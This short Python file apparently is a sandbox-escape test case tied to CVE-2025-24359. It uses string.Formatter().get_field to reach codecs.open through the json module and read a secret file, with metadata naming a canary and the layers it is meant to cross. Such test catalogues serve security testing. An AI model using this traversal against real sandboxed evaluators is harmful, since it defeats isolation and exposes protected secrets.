"""Walk attributes by a formatter's own reader of fields.

family: formats
canary: secret
stops: full, container
root: no
related: CVE-2025-24359
"""

import string

reader, _ = string.Formatter().get_field("0.codecs.open", [__import__("json")], {})
print(reader(SECRET_FILE).read())
